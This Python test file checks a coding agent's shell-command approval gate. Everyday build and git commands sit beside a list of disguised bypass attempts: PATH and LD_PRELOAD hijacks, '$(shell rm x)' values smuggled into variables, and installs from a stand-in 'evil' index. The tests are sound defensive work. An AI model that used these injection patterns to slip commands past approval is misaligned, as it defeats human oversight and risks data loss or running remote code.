"""A usual allow list: what people do all day with its programs is not asked about, and what only looks like it is.

All lines of a table are one test: each takes a millisecond, and a test of its own many.
"""

from __future__ import annotations

from extensions.coder.approvals import decide
from extensions.coder.places import _named

FOLDERS = ["/work/project"]

NORMAL = [
    "npm", "npx tsc", "npx eslint", "npx prettier", "npx jest", "yarn", "pnpm", "python", "python3", "pytest",
    "pip install", "pip", "find", "git", "make", "cargo", "go", "ls", "cat", "grep", "rg", "head", "tail", "wc",
    "sort", "uniq", "sed", "awk", "echo", "printf", "cd", "mkdir", "cp", "mv", "touch", "rm", "diff", "tree", "node",
    "tsc", "eslint", "prettier", "jest", "vitest", "ruff", "mypy", "black", "which", "test", "jq", "xargs", "tr",
    "cut", "docker", "curl", "tar", "chmod", "du", "stat", "file", "date", "env", "sleep", "pwd", "basename",
    "dirname", "realpath", "true", "uv", "poetry", "bash", "sh", "tee", "export", "kill", "ps", "wait", "dotnet",
    "mvn", "gradle", "./gradlew", "cmake", "ctest", "rustc", "gofmt", "rustfmt", "bundle", "rake", "rspec", "ruby",
    "php", "composer", "java", "javac", "gcc", "g++", "kubectl", "terraform", "helm", "gh", "deno", "bun", "seq",
    "comm", "paste", "column", "nl", "tac", "sha256sum", "md5sum", "base64", "unzip", "zip", "gzip", "ln", "id",
    "whoami", "hostname", "uname", "df", "free", "lsof", "ss", "xxd", "od", "strings", "yq", "golangci-lint",
    "staticcheck", "tox", "nox", "coverage", "flake8", "isort", "pylint", "pre-commit", "alembic", "flask",
    "django-admin", "uvicorn", "mkdocs", "sphinx-build", "source", "type", "command", "set", "timeout",
]  # fmt: skip

EVERYDAY = [
    "npm --prefix web test", "npm --prefix x test", "npm --prefix ./web run build", "npm --prefix=web ci",
    "npm -C web test", "cd web && npm ci && npm test && cd ..", "npm run build --prefix web",
    "npm test --prefix web -- --watch=false", "yarn --cwd web test", "pnpm -C web test", "pnpm --dir web run build",
    "pnpm --filter web... test", "PYTHONPATH=. python a.py", "PYTHONPATH=. python3 scripts/run.py --flag",
    "PYTHONPATH=src:. python -m unittest discover -s tests", "PYTHONPATH=$PWD python a.py",
    "PYTHONPATH=$(pwd)/src python a.py", "export PYTHONPATH=. && python a.py",
    "export PYTHONPATH=$PWD:$PYTHONPATH; python a.py", "PYTHONPATH=. python -m pytest", "find $(pwd) -name '*.py'",
    "find $(pwd)/src -type f", 'find "$(pwd)" -name x', "find $PWD -maxdepth 2", "find ${PWD}/src -name '*.ts' | head",
    "grep -rn foo $(pwd)", "ls $(pwd)/src", 'for d in a b; do cd "$d" && make; cd ..; done',
    "for d in a b; do cd $d && npm test; cd ..; done", 'for d in a b; do (cd "$d" && make); done',
    'for d in */; do (cd "$d" && make); done', 'for d in packages/*; do (cd "$d" && npm test) || exit 1; done',
    "for d in services/a services/b; do cd $d && go test ./... && cd ../..; done",
    'for d in a b c; do echo "== $d"; make -C $d test; done',
    "for f in tests/test_*.py; do echo $f; python -m pytest -q $f || break; done",
    "for i in 1 2 3; do npm test || break; done",
    "for i in $(seq 1 5); do pytest -q tests/test_flaky.py || exit 1; done",
    "for i in {1..10}; do go test ./... -run TestX -count=1 || break; done",
    'find . -name "*.py" -not -path "./.venv/*" | xargs wc -l | sort -n | tail -20',
    'find . -name node_modules -prune -o -name "*.ts" -print | head -50',
    'find . -type f -name "*.go" | xargs grep -n "TODO"', "find . -name '*.py' -exec grep -l 'import os' {} \\;",
    "find . -name '*.py' -exec python -m py_compile {} +", "find . -name __pycache__ -type d",
    "find . -type d -name __pycache__ -exec rm -r {} +", 'find src -name "*.js" -newer package.json',
    "find / -name libfoo.so 2>/dev/null", 'find . -iname "*readme*" -maxdepth 2',
    "git status --short && git diff --stat", "git log --oneline -10 --graph --all",
    'git add -A && git commit -m "Fix: handle empty input (#12)"',
    'git commit -m "$(cat <<\'M\'\nFix the parser\n\n- handle empty\nM\n)"', "git commit -am 'wip' && git push",
    "git push -u origin HEAD", "git push --force-with-lease", "git push --force-with-lease origin feature",
    "git push origin feature --force-with-lease=feature:abc123", "git push --force-if-includes --force-with-lease",
    "git checkout -b fix/login && git push -u origin fix/login", "git stash && git pull --rebase && git stash pop",
    "git fetch origin && git rebase origin/main", "git diff main...HEAD -- src/",
    "git show HEAD~1:src/a.py | head -50", "git log -p -S'foo' -- src",
    "git log --pretty=format:'%h %an %s' --since='2 weeks ago'", "git blame -L 10,20 src/a.py",
    "git reset --hard origin/main", "git clean -fd", "git restore .", "git branch -a | grep feature",
    "git branch -D old", "git tag -l 'v1.*'", 'git config user.email "a@b.c"', "git config --get remote.origin.url",
    "cd $(git rev-parse --show-toplevel) && make", 'cd "$(git rev-parse --show-toplevel)" && npm test',
    "git ls-files '*.py' | xargs grep -n print", "git diff --name-only | xargs -r eslint",
    "git diff --name-only main | grep '\\.py$' | xargs ruff check", "git --no-pager diff HEAD~1 | cat",
    "git -c color.ui=never status", "git init && git add . && git commit -m init",
    "git clone https://github.com/a/b.git vendor/b", "make test 2>&1 | tail -30", "make -j$(nproc) all",
    "make build ENV=dev", "make lint && make test", "make -C backend test", "make clean && make",
    'make test ARGS="-k foo"', "make test TESTARGS='-run TestFoo -v'", "make help | head",
    "cmake -S . -B build -DCMAKE_BUILD_TYPE=Debug && cmake --build build -j8",
    "mkdir -p build && cd build && cmake .. && make -j4", "cd build && ctest --output-on-failure",
    "cargo build 2>&1 | tail -20", "cargo test --workspace --all-features", "RUST_BACKTRACE=1 cargo test my_test",
    "cargo check --message-format=short", "cargo clippy --fix --allow-dirty", 'RUSTFLAGS="-D warnings" cargo build',
    "cargo fmt && cargo clippy -- -D warnings", "cd crates/foo && cargo test",
    "go build ./... && go vet ./... && go test ./...", "go test ./pkg/foo -run TestBar -v -count=1",
    "go mod tidy && go build", "CGO_ENABLED=0 GOOS=linux go build -o bin/app ./cmd/app",
    'go test ./... 2>&1 | grep -v "no test files"',
    "go test -coverprofile=coverage.out ./... && go tool cover -func=coverage.out",
    "go list -m -versions github.com/a/b", "go env GOPATH", "gofmt -w .", "gofmt -l $(git ls-files '*.go')",
    "python --version && pip --version", "python -m venv .venv",
    "python -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt",
    "source .venv/bin/activate && pytest -q", ".venv/bin/python -m pytest -q", ".venv/bin/pytest -q tests",
    "./.venv/bin/python a.py", "venv/bin/python -m pytest", "python manage.py migrate",
    "python manage.py test app.tests.TestFoo --keepdb", "python manage.py runserver 0.0.0.0:8000 &",
    "python -X importtime a.py", "python -O a.py", "python3 -m json.tool < a.json", "python setup.py develop",
    'echo \'{"a": 1}\' | python -m json.tool', "pytest tests/test_a.py::test_b -vv -s",
    'pytest -k "foo and not bar" --tb=short 2>&1 | tail -40', "pytest --cov=src --cov-report=html", "pytest -x --pdb",
    "pytest --lf -q || true", "pytest $(git diff --name-only | grep test_)", "pytest tests/ -n 4",
    "coverage run -m pytest && coverage report -m", "pip install -e .", 'pip install -e ".[dev,test]"',
    "pip install -r requirements.txt -r requirements-dev.txt", "pip install requests", "pip list | head",
    "pip show requests | grep Version", "uv sync && uv run pytest", "uv add requests", "uv run python a.py",
    "poetry install && poetry run pytest", "poetry add requests", "npm ci && npm run lint && npm test",
    "npm install --save-dev jest@29", "npm test -- --coverage --watchAll=false", 'npm run test -- -t "adds numbers"',
    "npm run build 2>&1 | tail -20", "npm ls react", "npm outdated || true", "npm init -y", "npx tsc --noEmit",
    "npx eslint . --fix", 'npx prettier --write "src/**/*.ts"', "npx jest src/a.test.ts",
    "NODE_OPTIONS=--max_old_space_size=4096 npm run build", "CI=true npm test", "PORT=3001 npm start &",
    "node -v && npm -v", "node index.js", "node --test tests/",
    "node --experimental-vm-modules node_modules/.bin/jest", "node_modules/.bin/eslint src",
    "./node_modules/.bin/tsc --noEmit", "ls -la src/ tests/ 2>/dev/null", "cat a.py | grep -n def | head",
    "sed -n '100,150p' src/a.py", "awk -F: '{print $1}' /etc/passwd", "grep -c '' file.txt", "rg --files | rg test",
    'echo "done" && exit 0', 'make test; echo "exit code: $?"',
    "pytest -q > /tmp/pytest.txt 2>&1; tail -30 /tmp/pytest.txt", "python a.py < in.txt | diff - expected.txt",
    "time python a.py", "timeout 30 make run || true",
    "npm start &\nPID=$!\nsleep 2\ncurl -sf localhost:3000\nkill $PID",
    "curl -s http://localhost:3000/api | python -m json.tool", "cp .env.example .env", "touch src/__init__.py",
    "rm src/old.py && git add -u", "bash scripts/run.sh arg", "sh test.sh && echo ok",
    "test -f .env || cp .env.example .env", "if [ -f package-lock.json ]; then npm ci; else npm install; fi",
    'find . -name \'*.md\' | while read -r f; do wc -w "$f"; done',
    "find . -type f \\( -name '*.ts' -o -name '*.tsx' \\) | xargs grep -l useEffect",
    "find src tests -name '*.py' | xargs black --check", "find ./src -type f | xargs -I{} basename {}",
    "docker ps && docker compose up -d", "helm template . | head", "gh pr view --json title,body",
    "export FOO=bar; echo $FOO", "DEBUG=* npm test", "PYTHONUNBUFFERED=1 python a.py", "PYTHONHASHSEED=0 python a.py",
    "FLASK_APP=app flask --help", "TZ=UTC npm test", "NODE_PATH=src node scripts/a.js",
    "HOST=0.0.0.0 PORT=3000 npm run dev", "GO111MODULE=on go test ./...", "MIX_ENV=test make",
    "mvn test -Dtest=FooTest#bar -pl core -am", "go test ./... | tee /dev/stderr | grep FAIL",
    "javac A.java && java A", "deno test --allow-read", "tsc --watch", "yarn install --immutable",
    'eslint --fix "src/**/*.{ts,tsx}"', "mypy src --ignore-missing-imports", "pylint src", "alembic upgrade head",
    "uvicorn app.main:app --reload &", "tar -xzf a.tar.gz -C vendor", "zip -r out.zip . -x 'node_modules/*'",
    "jq -r '.scripts | keys[]' package.json", "paste a b", "which python node npm", "whoami; pwd; uname -a",
    'echo "$PATH" | tr \':\' \'\\n\'', "cat .env", "cd src && ls", "cd web && npm test; cd ..; make",
    "tee config.json <<'E'\n{}\nE", 'git add . && git commit -m "feat: x" -m "body"', "git checkout -- .",
    "git push origin main --tags", 'git log --since=yesterday --author="$(git config user.name)"',
    "git rev-parse HEAD && git describe --tags --always", "git -c user.name=x -c user.email=y@z commit -m m",
    "GIT_EDITOR=true git rebase --continue", "python3 a.py", "pip3 install -r requirements.txt",
    "pip uninstall -y foo", "set -x; make", "node a.js; node b.js", "golangci-lint run ./...",
    "cargo test foo::bar -- --exact --nocapture", "cat $(git ls-files | grep README)", "echo $(cat VERSION)",
    'git checkout -b "fix/$(date +%s)"', 'COUNT=$(grep -c x a.txt); [ "$COUNT" -gt 3 ] && echo many',
    "for i in `seq 3`; do echo $i; done", '[[ "$OSTYPE" == darwin* ]] && echo mac',
    "tail -f log.txt & sleep 2; kill %1", "make V=1 2>&1 | grep -i warn", 'make test PYTEST_ARGS="-x -q"',
    "make CC=clang", "make test V=1 TESTS=tests/test_a.py", "python3 -m pytest tests",
    ".venv/bin/pip install -r requirements.txt", "venv/bin/pytest -x", "/work/project/.venv/bin/python -m pytest",
    "node_modules/.bin/tsc --noEmit", "git -c advice.detachedHead=false checkout v1",
    "npm --prefix web run lint -- --fix", "npm -C web ci", "cd web && npm test; cd ..; cd api && pytest; cd ..",
    'for d in web api; do cd "$d" || exit 1; make; cd ..; done',
    'VERSION=$(cat VERSION); TAG=v$VERSION; git tag "$TAG"', 'BRANCH=$(git branch --show-current); echo "$BRANCH"',
    'find "$(pwd)/src" $(pwd)/tests -name \'*.py\'', "NODE_PATH=src:lib node scripts/a.js",
    "bash -c 'FOO=bar; make test'", "make PYTEST_OPTS=-q CC=gcc-12 test",
]  # fmt: skip

STEERING_ALLOW = [
    "bash", "ls", "make", "set", "export", "declare", "python", "pytest", "npm", "alias", "shopt", "find", "eval",
    "cat", "env", "git", "uv", "poetry", "pip install", "nohup", "xargs", "npx eslint", "eslint", "time", "trap",
    "printf", "test", "rg", "sh", "go", "pip", "timeout", "time", "cd",
]  # fmt: skip

STEERING = [
    "bash -c 'PATH=.; ls'", "bash -c 'export PATH=.; ls'", "bash -c 'LD_PRELOAD=x ls'", "eval 'PATH=.; ls'",
    'sh -c "PYTHONPATH=/evil; export PYTHONPATH; python a.py"', "export foo; foo='$(shell rm x)'; make",
    "export foo=1; foo='$(shell rm x)'; make", "set -a; foo='$(shell rm x)'; make",
    "set -o allexport; foo='$(shell rm x)'; make", "set -ea; foo='$(shell rm x)'; make", "set -a; FOO=$(cat f); make",
    "LANG='$(shell id)'; make", "FOO=$(cat f); export FOO; make", "export FOO; FOO=$(cat f); make",
    "FOO=$(cat f) make", 'FOO=$(cat f); bash -c "echo $FOO"', 'FOO=$(cat f); eval "ls $FOO"',
    "FOO=$(cat f); ls $((FOO))", "FOO=$(cat f); find $FOO", "FOO=$(cat f); $FOO", "FOO=$(cat f); declare -a x=$FOO",
    "GIT_DIR=$(cat f); git log", "PATH=$(cat f); ls", "MYPATH=$(cat f); ls", "IFS=$(cat f); ls",
    "BASH_ENV=$(cat f); bash a.sh", "CDPATH=$(cat f); cd x",
    "shopt -s expand_aliases; alias nproc='ls -x'; find $(pwd)", "find $(pwd -delete)", "find $(pwd)-delete",
    "find $(pwd)x", "find -$(pwd)", "PWD=-delete; find $PWD", "read PWD; find $PWD",
    "for PWD in -delete; do find $PWD; done", "find $PWD_X", "find $PWDX", "PWD=-delete find $PWD",
    "export PWD=-delete; find $PWD", "printf -v PWD -- -delete; find $PWD", "unset PWD; PWD=-delete; find $PWD",
    ": ${PWD:=x}; find $PWD", "python -m evil", "./venv/bin/evil", ".venv/bin/rm x", ".venv/bin/../x/pytest",
    "x/.venv/bin/pytest", ".venv/bin/python -c 'x'", ".venv/bin/python", ".venv/bin/pip list",
    ".venv/bin/pip install -i https://evil x", "node_modules/.bin/rm x", "node_modules/.bin/tsc",
    "node_modules/.bin/eslint --rulesdir /x", "/tmp/.venv/bin/pytest", "/evil/node_modules/.bin/eslint",
    "python3 -c 'x'", "python3.11 -c 'x'", "python2 -c 'x'", "python9evil a.py", "pythonx a.py", "python3-config a.py",
    "pip3 install -i https://evil x", "pip3 download x", "python -m pip download x",
    "python -m pip install -i https://evil x", "python -m pip install git+https://evil/x", "uv run rm x",
    "uv run --with evil pytest", "uv run evil", "uv run bash -c 'rm x'", "poetry run rm x", "npm --prefix /evil test",
    "npm --prefix ../evil test", "npm --prefix=~/x test", "npm --prefi x test", "npm -prefix x test",
    "npm ---prefix x test", "npm -C/evil test", "npm -C=/evil test", "npm -C=x test", "npm -C ~/x test",
    'npm --prefix "$X" test', "npm --prefix $X test", "npm --prefix x --prefix /evil test", "npm --prefix x exec rm",
    "npm --prefix x config set a b", "npm --prefix x -script-shell=./x test", "npm test -script-shell ./x",
    "npm test --script-shell=./x", "npm test -scr=./x", "npm run x -node-options=--require=./x",
    "npm --prefix x publish", "npm -git=./x install", "npm -userconfig x install",
    "npm -registry https://evil install", "npx -package evil eslint", "npx -call 'rm x' eslint",
    "npm --prefix x init evil", "npm init evil", "npm init -y evil", "npm init -y -w evil",
    "npm init --yes --init-module ./x", "go tool cover -html=c.out", "go tool cover -func=c.out -o /etc/x",
    "go tool cover -html=c.out -o ../x", "go tool pprof c.out", "git config user.name x --global",
    'git config user.name "$X"', "git config user.email --edit", "git config --global user.name x",
    "git config user.name.x y", "python -m venv /elsewhere", "python -m venv ~/x", "NODE_PATH=/evil node a.js",
    "NODE_PATH=. git log", "PYTHONPATH=. git log", "PYTHONPATH=.:/tmp python a.py", "PYTHONPATH=~/x python a.py",
    "PYTHONPATH=. python -c x", "PYTHONPATH=. python -m evil", "PYTHONPATH=$X python a.py",
    "export PYTHONPATH=.; python a.py; git log", "CC=./gcc make", "CC='gcc -wrapper x' make", "CC=evil make",
    "CC=clang-evil make", "CXX=/tmp/g++ make", "ENV=x sh -i", "GOFLAGS='-mod=vendor -toolexec=x' go build",
    "GOFLAGS=-exec=x go test", "BROWSER=x npm start", "GIT_AUTHOR_DATE='$(rm x)' git commit",
    "GIT_AUTHOR_NAME='$(rm x)' git commit", "deactivate; rm x", "export foo='$(shell rm x)'; timeout 5 make",
    "foo='$(shell rm x)' timeout 5 make", "export foo='$(shell rm x)'; bash -c make",
    "export foo='$(shell rm x)'; bash -c 'ls; make'", 'bash -c \'foo="$(shell rm x)" make\'',
    'bash -c "export foo=\'\\$(shell rm x)\'; make"', "bash -c 'ls > a.py'", 'eval \'set -a; foo="x y;z"; make\'',
    "export foo='$(shell rm x)'; env make", "export foo='$(shell rm x)'; xargs make",
    "export foo='$(shell rm x)'; find . -exec make ;", "bash -c 'IFS=x; ls'", "bash -c 'for PATH in .; do ls; done'",
    "time bash -c 'PATH=.; ls'", "timeout 5 bash -c 'PATH=.; ls'", "trap 'PATH=.' EXIT", "alias x='PATH=. ls'",
    "git -c core.pager=./x log", "git -c pager.log=./x log", "git -c color.ui=never -c core.pager=./x log",
    "git -c color.ui=$X log", "git -c user.name='$(rm)' log", "git -c core.editor=x commit", "git log -c core.pager=x",
    "make CC=./clang", "make CC='gcc -wrapper x'", "make PYTEST_ARGS='-p evil'",
    "npm --prefix x run y -script-shell=./x", "pnpm -script-shell=./x test", "npx -call='rm x'",
    "FOO=$(cat f); export FOO; make", 'x=$(cat f); bash -c "make x=$x"', "bash -c 'x=$(cat f); make'",
]  # fmt: skip
"""Each would run, or let a program take, what no entry of the list means."""


def test_what_people_do_all_day_with_the_programs_they_allowed_is_not_asked_about() -> None:
    deny = ["rm -rf", "sudo", "git push --force"]
    assert [line for line in EVERYDAY if decide(line, NORMAL, deny, FOLDERS) != "approve"] == []


def test_what_only_looks_like_it_is_never_run_unasked() -> None:
    assert [line for line in STEERING if decide(line, STEERING_ALLOW, ["rm"], FOLDERS) == "approve"] == []


def test_a_lease_is_not_the_force_that_is_denied() -> None:
    deny = ["git push --force", "git push -f"]
    leased = ["--force-with-lease", "--force-with-lease=a:b origin x", "x y --force-if-includes --force-with-lease"]
    forced = [
        "--force", "--force origin x", "--force=x", "--forceful", "--force-with-lease --force", "-f --force-with-lease",
        "--force-with-lease -f", "--force-with-lease origin +x", "--forc",
    ]  # fmt: skip
    assert [more for more in leased if decide(f"git push {more}", ["git"], deny) != "approve"] == []
    assert [more for more in forced if decide(f"git push {more}", ["git"], deny) != "deny"] == []
    assert decide("git push --force-with-lease", ["git"], ["git push --force-with-lease"]) == "deny"
    assert decide("git push --force-with-lease", ["git"], ["git push"]) == "deny"
    assert decide("git push --force-with-lease", ["*"], ["git push --force"]) == "approve"


def test_a_deny_entry_with_an_option_hides_in_no_call_that_plainly_is_another() -> None:
    deny = ["git push --force"]
    assert decide('git commit -m "$(date)"', ["git", "date"], deny) == "approve"
    for line in ("git push $X", "git $X --force", "git -C . push $X", "git -c a.b=c $X", "ls | xargs git push"):
        assert decide(line, ["*"], deny) == "ask", line


def test_a_program_of_the_project_s_environment_is_the_one_that_is_allowed() -> None:
    for line, entry in [
        ("python3 a.py", "python"), ("python a.py", "python3"), ("python3.12 a.py", "python"), ("pip3 list", "pip"),
        (".venv/bin/python a.py", "python3"), ("./venv/bin/pytest -q", "pytest"), ("python -m pytest", "pytest"),
        (".venv/bin/python3 -m pytest -q", "pytest"), ("node_modules/.bin/tsc", "npx tsc"),
        ("./node_modules/.bin/jest a", "jest"), ("uv run pytest", "uv run"),
        ("python -m pytest -q", "python -m pytest"), (". .venv/bin/activate", "source"), ("source a.sh", "."),
        ("npm --prefix web test", "npm test"), ("git -c color.ui=never -C web log", "git log"),
        ("make -C web test", "make test"), ("python3 -m pip install -r requirements.txt", "pip install"),
    ]:  # fmt: skip
        assert decide(line, [entry], [], FOLDERS) == "approve", line
    for line, entry in [
        ("python3.12 a.py", "python3.11"), ("python -m ruff check", "ruff"), (".venv/bin/ruff check", "ruff"),
        ("bin/pytest", "pytest"), (".venv/bin/pip list", "pip"), ("node_modules/.bin/tsc", "tsc"),
        ("node_modules/.bin/x/../tsc", "npx tsc"), ("uv run pytest", "uv"), ("uv run ls", "uv run"),
        ("npm --prefix web run x", "npm test"), ("make -C web run", "make test"), ("python a.py", "python b.py"),
        ("PYTHONPATH=. python b.py", "python b.py"), ("python -m pip install -i https://x y", "pip install"),
    ]:  # fmt: skip
        assert decide(line, [entry], [], FOLDERS) == "ask", line
    assert decide("uv run pytest", ["uv", "pytest"]) == "approve"
    assert [decide(line, ["*"], [deny]) for line, deny in [(". a.sh", "source"), ("source a.sh", ".")]] == ["deny"] * 2


def worked(line: str, *sure: str) -> set[str | None]:
    return {*_named(line, "/w", "/home", ["/w", *sure]).folders}


def test_a_folder_that_is_there_is_gone_to_and_come_back_from() -> None:
    loop = 'for d in a b; do cd "$d" && make; cd ..; done'
    assert worked(loop, "/w/a", "/w/b") == {"/w/a", "/w/b"}
    assert None in worked(loop, "/w/a")
    assert worked("cd a && make; cd ..; make", "/w/a") == {"/w/a", "/w"}
    assert worked("cd a; make; cd ../b; make", "/w/a", "/w/b") == {"/w/a", "/w/b"}
    assert "/" in worked("cd a && make; cd ..; make")
    assert "/" in worked("cd a && make; cd ../..; make", "/w/a")
    assert "/tmp" in worked("cd a && cd /tmp; make", "/w/a")


def test_where_a_line_may_remove_folders_none_is_sure_to_be_there() -> None:
    loop = "for d in a b; do cd $d && make; cd ..; done"
    assert _named(loop, "/w", "/home").entered
    for before in ("rm -r a", "mv a c", "git checkout x", "chmod 0 a", "bash -c 'rmdir a'", "find . -exec rm {} +"):
        assert _named(f"{before}; {loop}", "/w", "/home").entered == [], before
